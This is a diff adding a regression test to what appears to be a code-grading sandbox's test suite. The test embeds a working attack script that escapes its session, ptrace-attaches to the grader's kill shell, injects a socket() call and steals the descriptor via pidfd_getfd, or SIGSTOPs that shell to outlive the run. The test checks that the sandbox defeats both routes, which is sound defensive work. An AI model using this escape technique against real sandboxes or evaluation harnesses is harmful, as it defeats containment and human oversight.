@@ -419,6 +419,110 @@ def test_setpriv_closes_the_reference_classmates_and_the_workspace_and_leaves_no
         tcp.close()
 
 
+# Found by the setpriv network red team: after a run, `_end_uid` killed its uid's strays with a
+# shell run as that uid, outside the seccomp filter. A daemon of the run that escaped its session
+# could reach into that shell before it ran `kill -KILL -1`: attach to it (ptrace, where Landlock,
+# which keeps ptrace inside its domain, is missing), make it call socket() and take the socket
+# (pidfd_getfd): TCP out of the sandbox; or stop it (SIGSTOP, where Landlock has no signal scope,
+# ABI < 6) and outlive the run, as the uid the slot's next submission runs as.
+SETPRIV_KILLER_ATTACK = r"""
+import ctypes, os, socket, sys, time
+how, port = sys.argv[1], int(sys.argv[2])
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+if os.fork():
+    os._exit(0)
+os.setsid()
+if os.fork():
+    os._exit(0)
+me, start = os.getpid(), int(open("/proc/sys/kernel/ns_last_pid").read())
+def steal_a_socket(p):  # make p call socket(AF_INET, SOCK_STREAM), then take the fd
+    os.waitpid(p, 0x40000000)
+    regs = (ctypes.c_ulonglong * 27)()
+    libc.ptrace(12, p, None, ctypes.byref(regs))  # PTRACE_GETREGS
+    rip = regs[16]
+    if libc.ptrace(1, p, ctypes.c_void_p(rip - 2), None) & 0xFFFF != 0x050F:  # stopped right after a syscall?
+        libc.ptrace(17, p, None, None)
+        return False
+    regs[10], regs[14], regs[13], regs[12], regs[15], regs[16] = 41, 2, 1, 0, 2**64 - 1, rip - 2
+    libc.ptrace(13, p, None, ctypes.byref(regs))
+    libc.ptrace(9, p, None, None)  # PTRACE_SINGLESTEP over the syscall instruction
+    os.waitpid(p, 0x40000000)
+    libc.ptrace(12, p, None, ctypes.byref(regs))
+    fd = libc.syscall(438, libc.syscall(434, p, 0), ctypes.c_int(regs[10]).value, 0)  # pidfd_getfd
+    s = socket.socket(fileno=fd)
+    s.connect(("127.0.0.1", port))
+    s.sendall(b"out")
+    os.kill(p, 9)
+    return True
+caught, deadline = False, time.monotonic() + 60
+while time.monotonic() < deadline:
+    if caught:
+        time.sleep(1)
+        continue
+    last = int(open("/proc/sys/kernel/ns_last_pid").read())
+    for p in range(max(start + 1, last - 4), last + 1):
+        if p == me:
+            continue
+        if how == "ptrace" and libc.ptrace(16, p, None, None) == 0:  # PTRACE_ATTACH
+            caught = steal_a_socket(p)
+            print("attached to", p, open(f"/proc/{p}/comm").read().strip(), "took a socket:", caught, flush=True)
+        elif how == "stop":
+            try:
+                os.kill(p, 19)
+                caught = True
+            except OSError:
+                pass
+"""
+
+
+@needs_setpriv
+@pytest.mark.skipif(not os.access(SYSTEM_PYTHON, os.X_OK)
+                    or os.uname().machine != "x86_64", reason=f"no {SYSTEM_PYTHON}, or not x86_64")
+@pytest.mark.parametrize("how", ["ptrace", "stop"])
+def test_setpriv_a_daemon_can_neither_use_nor_stop_the_grader_s_killer(how, monkeypatch, tmp_path):
+    import shutil
+    import socket
+    import tempfile
+    import time
+
+    if how == "ptrace":  # a kernel without Landlock
+        monkeypatch.setattr(landlock, "abi", lambda: 0)
+    elif landlock.abi() < 1:
+        pytest.skip("no Landlock")
+    else:  # Landlock without its signal scope (ABI 6)
+        monkeypatch.setattr(landlock, "abi", lambda: 5)
+    scratch = Path(tempfile.mkdtemp(prefix="minilm-grade-"))
+    os.chmod(scratch, 0o711)
+    tcp = socket.create_server(("127.0.0.1", 0))
+    tcp.settimeout(2)
+    box = sandbox.Sandbox("setpriv", python=SYSTEM_PYTHON)
+    uid = sandbox.setpriv_uid(0)
+    try:
+        ws, out, log = scratch / "s0" / "ws", scratch / "s0" / "out", scratch / "s0" / "log"
+        ws.mkdir(parents=True)
+        out.mkdir()
+        (ws / "attack.py").write_text(SETPRIV_KILLER_ATTACK)
+        box.prepare(ws, out, 0)
+        t0 = time.monotonic()
+        sandbox.run(box, ["attack.py", how, str(tcp.getsockname()[1])], ws, out, box.env({}, ws, out), 0, timeout=20,
+                    log=log)
+        try:
+            conn, _ = tcp.accept()
+            conn.close()
+            reached = True
+        except TimeoutError:
+            reached = False
+        left = _uid_processes(uid)
+        assert not reached and left == [], (reached, left, log.read_text())
+        assert time.monotonic() - t0 < 25  # the grader did not wait on a stopped killer either
+    finally:
+        for pid in _uid_processes(uid):
+            os.kill(pid, 9)
+        shutil.rmtree(scratch, ignore_errors=True)
+        tcp.close()
+
+
 @needs_setpriv
 def test_setpriv_is_refused_where_its_uid_could_read_the_reference_or_write_the_runtime(tmp_path):
     import shutil
